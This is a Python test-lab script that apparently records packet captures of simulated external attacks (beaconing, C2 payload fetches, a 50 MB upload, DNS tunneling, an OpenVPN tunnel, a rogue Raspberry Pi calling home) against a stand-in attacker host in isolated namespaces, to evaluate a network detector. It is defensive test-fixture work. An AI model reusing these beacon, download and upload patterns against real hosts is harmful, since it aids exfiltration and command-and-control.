"""Record attacks that involve the "internet" (198.51.100.0/24), one pcap per scenario.

    python -m tests.lab.scenarios_external tests/data/scenarios [--only external-beacon]

Same fixed lab as :mod:`tests.lab.scenarios_benign` (lab id 5ca1, same hosts, MACs and servers), so each
capture follows a baseline composed from the benign sessions. ``rare`` (198.51.100.31) is the attacker's
server; ``cdn`` (198.51.100.30) is the popular site everyone uses. Every tool is real (curl, dig,
dnsmasq, OpenVPN, Python's HTTP server); every loop is bounded. Needs root.

- external-beacon: ws2 polls http://198.51.100.31/api/v1/status.json every 2.0 s (40 times) with a
  fixed non-browser user agent, browsing the CDN in between.
- external-c2: ws2 fetches application/octet-stream payloads (.bin) from rare every 5.0 s (24 times).
- external-upload: ws1 PUTs 50 MB to rare (captured with ``-s 128``: headers are enough for flow bytes).
- external-dns-tunnel: ws2 sends 300 TXT queries for long base32 labels under tunnel.example.test to
  dc's dnsmasq, which forwards them to rare's dnsmasq (the tunnel domain's name server).
- external-vpn: ws1 brings up an OpenVPN static-key tunnel (UDP 1194) to rare and pings through it.
- external-pi-c2, external-pi-upload: the Raspberry Pi (pi, never in the baseline) fetches octet-stream
  payloads from rare every 5 s (24 times), then PUTs 7.5 MB (decimal) to it: the rogue device of the seed
  calling home and sending data out (one scenario, external-pi-exfil).

What each capture should raise is in ``tests/data/scenarios/<name>.truth.yaml``; to evaluate, lay the
scenarios out after a composed baseline with :func:`tests.lab.compose.stage_scenarios` and run
``vigil eval`` on that directory.
"""

from __future__ import annotations

import argparse
import base64
import random
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

from tests.lab.netns import in_private_netns_names
from tests.lab.scenarios_benign import (
    DC_IP,
    DOMAIN,
    RARE_IP,
    TUNNEL_DOMAIN,
    Office,
    browse,
    capture,
    curl,
    dig,
    office,
    terminate_cleanly,
)

BEACON_UA = "Go-http-client/1.1"
C2_UA = "python-requests/2.31.0"
# Inner tunnel addresses: point-to-point inside the lab's namespaces only (never routed anywhere).
VPN_LOCAL, VPN_REMOTE = "10.231.99.2", "10.231.99.1"


def _sleep_until(deadline: float) -> None:
    delay = deadline - time.monotonic()
    if delay > 0:
        time.sleep(delay)


def beacon(place: Office, count: int = 40, every_s: float = 2.0) -> str:
    ws2 = place.host("ws2")
    browse(ws2, "cdn.example.test", "/")
    t0 = time.monotonic()
    codes: list[str] = []
    for i in range(count):
        _sleep_until(t0 + i * every_s)
        codes.append(curl(ws2, f"http://{RARE_IP}/api/v1/status.json?id=ws2-7f3a9c", agent=BEACON_UA))
        if i % 8 == 4:
            browse(ws2, "cdn.example.test", "/static/app.js")
    return f"{count} beacons every {every_s}s, statuses {sorted(set(codes))}"


def c2(place: Office, count: int = 24, every_s: float = 5.0, who: str = "ws2") -> str:
    ws2 = place.host(who)
    browse(ws2, "cdn.example.test", "/")
    payloads = ["task.bin", "stage.bin", "update.bin"]
    t0 = time.monotonic()
    codes: list[str] = []
    for i in range(count):
        _sleep_until(t0 + i * every_s)
        codes.append(curl(ws2, f"http://{RARE_IP}/dl/{payloads[i % len(payloads)]}", agent=C2_UA))
        if i % 6 == 3:
            browse(ws2, f"intranet.{DOMAIN}", "/news.html")
    return f"{count} payload downloads every {every_s}s, statuses {sorted(set(codes))}"


def upload(place: Office, megabytes: float = 50, who: str = "ws1", mebi: bool = True) -> str:
    """PUT ``megabytes`` of random bytes to rare (MiB, or decimal MB when ``mebi`` is False)."""
    ws1 = place.host(who)
    data = place.tmp / "backup.zip"
    rng = random.Random(50)
    remaining = round(megabytes * ((1 << 20) if mebi else 1_000_000))
    with data.open("wb") as out:
        while remaining > 0:
            out.write(rng.randbytes(min(remaining, 1 << 20)))
            remaining -= 1 << 20
    browse(ws1, "cdn.example.test", "/")
    browse(ws1, f"intranet.{DOMAIN}", "/")
    code = curl(
        ws1,
        f"http://{RARE_IP}/upload/backup.zip",
        agent=None,
        extra=("-T", str(data), "-H", "Content-Type: application/octet-stream"),
        max_time=120,
    )
    browse(ws1, "cdn.example.test", "/static/style.css")
    data.unlink()
    return f"PUT {megabytes} {'MiB' if mebi else 'MB'} -> {code}"


def _tunnel_names(count: int, seed: int = 53) -> list[tuple[str, str]]:
    """(query name, TXT answer) pairs: base32 labels like a DNS tunnel's, reproducible for ``seed``."""
    rng = random.Random(seed)
    pairs: list[tuple[str, str]] = []
    for seq in range(count):
        upstream = base64.b32encode(rng.randbytes(70)).decode().rstrip("=").lower()
        labels = [upstream[i : i + 56] for i in range(0, len(upstream), 56)]
        name = ".".join([f"{seq:04x}", *labels, TUNNEL_DOMAIN])
        answer = base64.b32encode(rng.randbytes(100)).decode().rstrip("=").lower()
        pairs.append((name, answer))
    return pairs


def tunnel_dns_config(path: Path, count: int = 300) -> list[str]:
    """rare's dnsmasq config: one TXT record per tunnel query name (rare is the tunnel domain's server)."""
    pairs = _tunnel_names(count)
    path.write_text("".join(f"txt-record={name},{answer}\n" for name, answer in pairs))
    return [name for name, _ in pairs]


def dns_tunnel(place: Office, count: int = 300, batch: int = 10, every_s: float = 2.0) -> str:
    conf = place.tmp / "rare-dns.conf"
    names = tunnel_dns_config(conf, count)
    place.host("rare").spawn(
        "dnsmasq",
        "--no-daemon",
        f"--conf-file={conf}",
        f"--listen-address={RARE_IP}",
        "--bind-interfaces",
        "--no-resolv",
        "--no-hosts",
        "--pid-file=",
        "--user=root",
        "--group=root",
        "--local=/test/",
    )
    ws2 = place.host("ws2")
    deadline = time.monotonic() + 20
    while not dig(ws2, names[0], "TXT"):
        if time.monotonic() > deadline:
            raise RuntimeError("tunnel name server on rare does not answer through dc")
        time.sleep(0.5)
    browse(ws2, "cdn.example.test", "/")
    answered = 0
    t0 = time.monotonic()
    for start in range(0, count, batch):
        _sleep_until(t0 + (start // batch) * every_s)
        queries = place.tmp / "batch.txt"
        queries.write_text("".join(f"{name} TXT\n" for name in names[start : start + batch]))
        proc = ws2.run(
            "dig", "+short", "+tries=1", "+time=2", f"@{DC_IP}", "-f", str(queries), timeout=batch * 3 + 10
        )
        answered += sum(1 for line in proc.stdout.splitlines() if line.startswith('"'))
    browse(ws2, "cdn.example.test", "/static/app.js")
    # The probe query above was one more; it was answered too.
    return f"{count} TXT queries (+1 probe) under {TUNNEL_DOMAIN}, {answered} answered"


def vpn(place: Office, pings: int = 5) -> str:
    ws1, rare = place.host("ws1"), place.host("rare")
    key = place.tmp / "static.key"
    subprocess.run(["openvpn", "--genkey", "secret", str(key)], check=True, capture_output=True, timeout=30)
    common = [
        "openvpn",
        "--dev",
        "tun",
        "--proto",
        "udp",
        "--secret",
        str(key),
        "--cipher",
        "AES-256-CBC",
        "--auth",
        "SHA256",
        "--disable-dco",
        "--verb",
        "1",
        "--ping",
        "5",
        "--ping-exit",
        "60",
    ]
    rare.spawn(*common, "--local", RARE_IP, "--lport", "1194", "--ifconfig", VPN_REMOTE, VPN_LOCAL)
    time.sleep(1.0)
    browse(ws1, "cdn.example.test", "/")
    client = ws1.spawn(
        *common,
        "--remote",
        RARE_IP,
        "1194",
        "--nobind",
        "--ifconfig",
        VPN_LOCAL,
        VPN_REMOTE,
        stdout=subprocess.PIPE,
    )
    deadline = time.monotonic() + 30
    while ws1.run("ping", "-c", "1", "-W", "1", VPN_REMOTE, timeout=5).returncode != 0:
        if time.monotonic() > deadline or client.poll() is not None:
            raise RuntimeError("OpenVPN tunnel did not come up")
    ping = ws1.run("ping", "-c", str(pings), "-i", "1", "-W", "2", VPN_REMOTE, timeout=pings * 3 + 10)
    time.sleep(6)  # one keepalive round
    summary = ping.stdout.strip().splitlines()[-2] if ping.stdout else ping.stderr
    return f"OpenVPN static key UDP 1194 to {RARE_IP}; ping through tunnel: {summary}"


def pi_c2(place: Office) -> str:
    """The rogue Raspberry Pi's call home: octet-stream payloads from rare every 5 s (the seed's 16:04)."""
    return c2(place, who="pi")


def pi_upload(place: Office) -> str:
    """Then the Raspberry Pi sends 7.5 MB to the same endpoint (the seed's unusual external data transfer)."""
    return upload(place, 7.5, who="pi", mebi=False)


SCENARIOS: dict[str, tuple[Callable[[Office], str], int]] = {
    # name: (what happens, tcpdump snap length; 0 = whole packets)
    "external-beacon": (beacon, 0),
    "external-c2": (c2, 0),
    "external-upload": (upload, 128),
    "external-dns-tunnel": (dns_tunnel, 0),
    "external-vpn": (vpn, 0),
    # The two halves of the rogue Raspberry Pi's exfiltration (seed 004), evaluated as one scenario
    # (external-pi-exfil.truth.yaml); the upload with headers only, as external-upload.
    "external-pi-c2": (pi_c2, 0),
    "external-pi-upload": (pi_upload, 128),
}


def record(outdir: Path, only: list[str]) -> None:
    for name in only or list(SCENARIOS):
        run, snaplen = SCENARIOS[name]
        with office() as place, capture(place.lab, outdir / f"{name}.pcap", snaplen=snaplen):
            t0 = time.monotonic()
            summary = run(place)
        print(f"{name}: {summary} ({time.monotonic() - t0:.0f}s)", file=sys.stderr)


def main() -> int:
    terminate_cleanly()
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("outdir", type=Path)
    parser.add_argument("--only", action="append", choices=sorted(SCENARIOS), default=[])
    args = parser.parse_args()
    if (code := in_private_netns_names("tests.lab.scenarios_external", sys.argv[1:])) is not None:
        return code
    record(args.outdir, args.only)
    return 0


if __name__ == "__main__":
    sys.exit(main())
